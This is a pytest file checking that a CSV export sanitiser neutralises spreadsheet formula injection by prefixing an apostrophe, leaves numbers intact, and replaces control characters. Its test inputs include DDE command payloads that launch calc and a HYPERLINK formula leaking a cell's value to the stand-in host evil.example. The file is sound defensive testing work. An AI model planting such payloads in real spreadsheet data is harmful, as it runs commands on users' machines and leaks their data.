"""No cell of a CSV export is a formula to a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import pyarrow as pa
import pytest

from orchestrator.results.spreadsheet_text import as_plain_cells


def cell(text: str | None) -> object:
    table = pa.table({"a": pa.array([text], pa.string()), "n": pa.array([-5])})
    plain = as_plain_cells(table)
    assert plain.schema == table.schema
    assert plain["n"].to_pylist() == [-5]
    return plain["a"].to_pylist()[0]


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        '=HYPERLINK("https://evil.example?"&A1)',
        "\t=1+1",
        "\r=1+1",
        "-",
        "+49 30 123",
        "-5 apples",
        "＝1+1",
        "＠SUM(1)",
        "=1\n2",
    ],
)
def test_a_text_that_a_spreadsheet_runs_gets_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-5", "+3", "-1,234.5", "-.5", "-1e-5", "+50 %", "a=b", "1-2", "'=1", "", " =1", "a\n=1", None]
)
def test_numbers_and_other_texts_stay_as_they_are(text: str | None) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("sign", ["\x1b", "\x00", "\x07", "\x7f", "\x9b", "\x0c"])
def test_control_characters_are_replaced_and_lines_and_tabs_stay(sign: str) -> None:
    assert cell(f"a{sign}[31mb\tc\r\nd") == "a\ufffd[31mb\tc\r\nd"
    assert cell(f"{sign}=1+1") == "\ufffd=1+1"
